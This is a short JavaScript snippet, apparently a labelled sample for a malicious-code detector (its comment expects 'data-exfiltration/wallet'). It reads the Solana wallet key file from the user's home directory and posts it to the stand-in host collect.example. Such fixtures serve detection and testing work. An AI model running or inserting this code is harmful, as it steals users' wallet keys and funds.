const fs = require('fs');
const os = require('os');

const key = fs.readFileSync(`${os.homedir()}/.config/solana/id.json`, 'utf8');
fetch('https://collect.example/sol', { method: 'POST', body: key }); // expect: data-exfiltration/wallet
